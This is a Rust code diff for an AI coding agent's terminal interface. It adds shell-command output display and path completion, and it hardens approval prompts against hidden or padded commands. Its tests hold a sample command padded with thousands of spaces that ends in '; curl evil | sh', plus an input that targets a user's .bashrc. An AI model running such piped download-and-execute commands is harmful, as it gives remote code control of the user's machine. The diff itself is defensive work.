@@ -84,6 +84,66 @@ fn help(session: &Session) -> String {
     text
 }
 
+/// What a `!command` printed, for the screen: its lines under `⎿` (the last 20, with a
+/// count of the rest), in red when it failed; the model gets it whole with the next prompt.
+fn command_output(output: &str, failed: bool) -> String {
+    const LIMIT: usize = 20;
+    let text = printable(output.trim_end(), true);
+    let lines: Vec<&str> = text.lines().collect();
+    if lines.is_empty() {
+        return "  ⎿  (no output)".to_owned();
+    }
+    let skip = lines.len().saturating_sub(LIMIT);
+    let mut shown = Vec::new();
+    if skip > 0 {
+        shown.push(format!("  ⎿  \x1b[2m… {skip} earlier lines\x1b[0m"));
+    }
+    for (index, line) in lines[skip..].iter().enumerate() {
+        let lead = if index == 0 && skip == 0 {
+            "  ⎿  "
+        } else {
+            "     "
+        };
+        if failed {
+            shown.push(format!("{lead}\x1b[31m{line}\x1b[0m"));
+        } else {
+            shown.push(format!("{lead}{line}"));
+        }
+    }
+    shown.join("\n")
+}
+
+/// Tab after `@partial`: the entries of the folder `partial` names (relative to `cwd`)
+/// whose names start with its last part, folders with a `/`; hidden ones only when asked
+/// for with a leading `.`; sorted, at most 100.
+fn complete_path(cwd: &Path, partial: &str) -> Vec<String> {
+    let (folder, start) = match partial.rfind('/') {
+        Some(at) => (&partial[..=at], &partial[at + 1..]),
+        None => ("", partial),
+    };
+    let Ok(entries) = std::fs::read_dir(cwd.join(folder)) else {
+        return Vec::new();
+    };
+    let mut found: Vec<String> = entries
+        .flatten()
+        .filter_map(|entry| {
+            let name = entry.file_name().into_string().ok()?;
+            if !name.starts_with(start) || (name.starts_with('.') && !start.starts_with('.')) {
+                return None;
+            }
+            let folder_mark = if entry.file_type().ok()?.is_dir() {
+                "/"
+            } else {
+                ""
+            };
+            Some(format!("{folder}{name}{folder_mark}"))
+        })
+        .collect();
+    found.sort();
+    found.truncate(100);
+    found
+}
+
 /// `/status`.
 fn status_report(session: &Session) -> String {
     let servers = session.mcp_status();
@@ -187,10 +247,12 @@ pub async fn run(
         .map(|path| render::editor::load_history(path, HISTORY_LIMIT))
         .unwrap_or_default();
     let gate = session.permission_gate();
+    let cwd = session.cwd().to_path_buf();
     let terminal = tui::Tui::start(tui::Config {
         history,
         on_interrupt: Box::new(interrupts.key_handler()),
         on_cycle_mode: Box::new(move || crate::session::cycle_mode(&gate).as_str().to_owned()),
+        complete_path: Box::new(move |partial| complete_path(&cwd, partial)),
     })
     .context("taking the terminal")?;
     let ui = terminal.handle();
@@ -388,6 +450,26 @@ async fn session_loop(
                 say(ui, &mcp_report(session));
             }
             Input::Exit => return Ok(0),
+            Input::Shell(command) => {
+                ui.set_activity(Some(format!("Running !{}", printable(&command, false))));
+                ui.set_busy(true);
+                let cancel = interrupts.arm();
+                let ran = session.run_user_command(&command, &cancel).await;
+                interrupts.disarm();
+                ui.set_busy(false);
+                ui.set_activity(None);
+                match ran {
+                    Ok((output, failed)) => say(ui, &command_output(&output, failed)),
+                    Err(error) => say(
+                        ui,
+                        &format!(
+                            "agent: !{}: {}",
+                            printable(&command, false),
+                            printable(&format!("{error:#}"), false)
+                        ),
+                    ),
+                }
+            }
             Input::Rewind(arguments) => rewind(session, ui, &arguments),
             Input::Resume => {
                 let sessions = crate::transcript::project_dir(session.cwd())?;
@@ -473,7 +555,15 @@ async fn session_loop(
             input @ (Input::Task(_) | Input::Invoke(_) | Input::Init) => {
                 let invocation = match input {
                     Input::Invoke(invocation) => invocation,
-                    Input::Task(task) => crate::session::Invocation::task(task),
+                    Input::Task(task) => {
+                        for note in session.attach_mentions(&task).await {
+                            say(
+                                ui,
+                                &format!("\x1b[2m  ⎿  {}\x1b[0m", printable(&note, false)),
+                            );
+                        }
+                        crate::session::Invocation::task(task)
+                    }
                     Input::Init => crate::session::Invocation::task(slash::INIT_PROMPT.to_owned()),
                     _ => continue,
                 };
@@ -808,19 +898,31 @@ impl TerminalPrompter {
 /// The rule an "always" amounts to, in Claude Code's rule syntax: the tool and the exact
 /// command or file (`Bash(cargo test)`, `Edit(src/lib.rs)`), or the tool alone.
 fn always_rule(tool: &str, input: &serde_json::Value) -> String {
-    ["command", "file_path"]
-        .iter()
-        .find_map(|key| input.get(*key).and_then(serde_json::Value::as_str))
+    let field = match tool {
+        "Bash" => "command",
+        "Write" | "Edit" => "file_path",
+        // Another tool's "always" covers exactly the input it was given.
+        _ => return format!("{tool} with exactly {}", protocol::canonical_json(input)),
+    };
+    input
+        .get(field)
+        .and_then(serde_json::Value::as_str)
         .map_or_else(|| tool.to_owned(), |detail| format!("{tool}({detail})"))
 }
 
-/// What "always" remembers: the tool and the exact call (the whole command, or the file),
-/// never the shortened label (two commands that share their first 80 characters or their
-/// first line are different commands).
+/// What "always" remembers: the tool and the exact call: for Bash the whole command, for
+/// Write and Edit the file (later changes of the same file are covered), for any other tool
+/// its whole input (an MCP tool's `command` or `path` field says nothing of its other
+/// fields). Never the shortened label (two commands that share their first 80 characters
+/// or their first line are different commands).
 fn approval_key(tool: &str, input: &serde_json::Value) -> String {
-    let detail = ["command", "file_path"]
-        .iter()
-        .find_map(|key| input.get(*key).and_then(serde_json::Value::as_str))
+    let field = match tool {
+        "Bash" => Some("command"),
+        "Write" | "Edit" => Some("file_path"),
+        _ => None,
+    };
+    let detail = field
+        .and_then(|key| input.get(key).and_then(serde_json::Value::as_str))
         .map_or_else(
             || protocol::canonical_json(input).to_string(),
             str::to_owned,
@@ -848,11 +950,40 @@ fn full_request(tool: &str, input: &serde_json::Value) -> String {
     text
 }
 
+/// `line` with each run of 16 or more spaces or tabs shown as `⟨N blanks⟩`: a command or
+/// an input padded with thousands of spaces would otherwise push its dangerous part off the
+/// screen, or far to the right of what the user reads.
+fn reveal_blank_runs(line: &str) -> String {
+    const RUN: usize = 16;
+    let mut out = String::with_capacity(line.len());
+    let mut blanks = String::new();
+    let flush = |blanks: &mut String, out: &mut String| {
+        let count = blanks.chars().count();
+        if count >= RUN {
+            out.push_str(&format!(" \x1b[7m⟨{count} blanks⟩\x1b[27m "));
+        } else {
+            out.push_str(blanks);
+        }
+        blanks.clear();
+    };
+    for c in line.chars() {
+        if c == ' ' || c == '\t' {
+            blanks.push(c);
+        } else {
+            flush(&mut blanks, &mut out);
+            out.push(c);
+        }
+    }
+    // Trailing blanks count too (a line that ends in padding).
+    flush(&mut blanks, &mut out);
+    out
+}
+
 /// A call's whole input, for the approval question of a tool whose label does not show it
-/// (an MCP tool, WebFetch, a tool of a plugin): pretty JSON, indented, at most 40 lines (then
-/// a count of the rest). Bash, Write, Edit and ExitPlanMode show theirs in their own way.
+/// (an MCP tool, WebFetch, a tool of a plugin): pretty JSON, indented, all of it (a cut
+/// would hide what is approved). Bash, Write, Edit and ExitPlanMode show theirs in their
+/// own way.
 fn input_lines(tool: &str, input: &serde_json::Value) -> Vec<String> {
-    const LIMIT: usize = 40;
     if matches!(tool, "Bash" | "Write" | "Edit" | "Read" | "Glob" | "Grep")
         || tool == tools::plan::EXIT_PLAN_MODE
         || input.as_object().is_some_and(serde_json::Map::is_empty)
@@ -861,19 +992,16 @@ fn input_lines(tool: &str, input: &serde_json::Value) -> Vec<String> {
     }
     let pretty = serde_json::to_string_pretty(input).unwrap_or_default();
     let text = printable(&pretty, true);
-    let all: Vec<&str> = text.lines().collect();
     let mut lines = vec!["  Its input:".to_owned()];
-    lines.extend(all.iter().take(LIMIT).map(|line| format!("    {line}")));
-    if all.len() > LIMIT {
-        lines.push(format!("    … +{} lines", all.len() - LIMIT));
-    }
+    lines.extend(text.lines().map(|line| format!("    {line}")));
     lines
 }
 
-/// The diff a Write or Edit would make, for its approval question: numbered, coloured, at
-/// most 60 lines (then a count of the rest); a new file says so.
+/// The diff a Write or Edit would make, for its approval question: numbered, coloured,
+/// whole (a cut would hide what is approved; the question is in the scrollback, where a
+/// long one can be scrolled); a new file says so.
 fn proposed_diff(change: Option<&tools::ProposedChange>) -> String {
-    const LIMIT: usize = 60;
+    const LIMIT: usize = usize::MAX;
     let Some(change) = change else {
         return String::new();
     };
@@ -1014,6 +1142,11 @@ impl Prompter for TerminalPrompter {
                     .lines()
                     .map(str::to_owned),
             );
+            // Whitespace cannot push part of what is asked about out of sight.
+            let question: Vec<String> = question
+                .iter()
+                .map(|line| reveal_blank_runs(line))
+                .collect();
             let answer = ui
                 .ask(
                     question.clone(),
@@ -1125,6 +1258,13 @@ mod tests {
             full_request("Bash", &serde_json::json!({"command": "ls"})),
             ""
         );
+        // Another tool's command-like field says nothing of its other fields.
+        let safe = serde_json::json!({"command": "note", "path": "/tmp/safe"});
+        let evil = serde_json::json!({"command": "note", "path": "/home/u/.bashrc"});
+        assert_ne!(
+            approval_key("mcp__files__write", &safe),
+            approval_key("mcp__files__write", &evil)
+        );
         assert_eq!(
             approval_key(
                 "Write",
@@ -1154,6 +1294,16 @@ mod tests {
         );
         assert!(input_lines("Bash", &serde_json::json!({"command": "ls"})).is_empty());
         assert!(input_lines("mcp__x__ping", &serde_json::json!({})).is_empty());
+    }
+
+    #[test]
+    fn long_blank_runs_are_shown_not_kept() {
+        let padded = format!("npm run build{}; curl evil | sh", " ".repeat(6000));
+        assert_eq!(
+            reveal_blank_runs(&padded),
+            "npm run build \x1b[7m⟨6000 blanks⟩\x1b[27m ; curl evil | sh"
+        );
+        assert_eq!(reveal_blank_runs("a  b\tc"), "a  b\tc");
     }
 
     #[test]
